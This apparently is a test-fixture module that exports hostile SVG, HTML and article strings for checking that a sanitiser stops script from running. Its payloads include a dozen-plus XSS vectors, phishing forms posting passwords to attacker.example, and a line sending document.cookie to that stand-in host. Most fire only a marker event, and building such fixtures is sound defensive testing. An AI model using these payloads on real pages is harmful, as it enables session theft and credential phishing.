/** Files that would run script if a page showed them as what they claim to be. */

/** Every attempt reports itself by this event name on the window, so that a test can see that none ran. */
export const hostileMark = 'snowline-hostile-ran'

const run = `(window.top||window).dispatchEvent(new CustomEvent('${hostileMark}'))`

export const hostileSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="180" onload="${run}">
  <rect width="320" height="180" fill="#1f7a5c"/>
  <text x="24" y="98" font-family="sans-serif" font-size="22" fill="#fff">Floor plan, 3rd floor</text>
  <script>${run}</script>
  <a xlink:href="javascript:${run}"><rect x="24" y="120" width="120" height="30" fill="#fff"/></a>
  <foreignObject width="320" height="180"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run}"/></body></foreignObject>
  <animate attributeName="href" values="javascript:${run}" begin="0s"/>
</svg>
`

export const hostileHtml = `<!doctype html>
<html>
<head><title>Invoice</title><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=javascript:${run}"></head>
<body onload="${run}">
<h1>Your invoice is overdue</h1>
<p>Please sign in to see it.</p>
<form action="https://attacker.example/collect"><input name="user"><input name="password" type="password"><button>Sign in</button></form>
<img src="x" onerror="${run}">
<script>${run}; document.cookie = 'stolen=1'; top.location = 'https://attacker.example/?c=' + encodeURIComponent(document.cookie)</script>
<iframe src="javascript:${run}"></iframe>
</body>
</html>
`

/** An article body with the same intentions, under a harmless title. */
export const hostileArticle = `<h2>Before you start</h2>
<p>Follow these steps to renew your <b>building badge</b> before it expires.</p>
<script>${run}</script>
<img src="x" onerror="${run}" alt="Badge office">
<p><a href="javascript:${run}">Open the badge form</a>, <a href="JaVaScRiPt&#58;${run}">or this one</a>,
<a href="data:text/html,<script>${run}</script>">or the short version</a>.</p>
<p style="position:fixed;inset:0;background:#fff;z-index:2147483647">Your session ended. Sign in again.</p>
<style>body { display: none } @import url("https://attacker.example/track.css");</style>
<form action="https://attacker.example/collect" method="post"><input name="password" type="password" placeholder="Password"><button formaction="javascript:${run}">Continue</button></form>
<iframe src="https://attacker.example/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
<svg onload="${run}"><script>${run}</script><use href="data:image/svg+xml,<svg onload='${run}'/>"/><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></mglyph></table></mtext></math>
<object data="javascript:${run}"></object><embed src="javascript:${run}">
<details open ontoggle="${run}"><summary>Opening hours</summary>Monday to Friday, 8:00 to 16:00.</details>
<a id="snowline" name="attributes" href="https://attacker.example/clobber"><input name="innerHTML"></a>
<video src="x" onerror="${run}"></video><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">
<p>The badge office is on the <em>ground floor</em>. Bring your old badge.</p>`
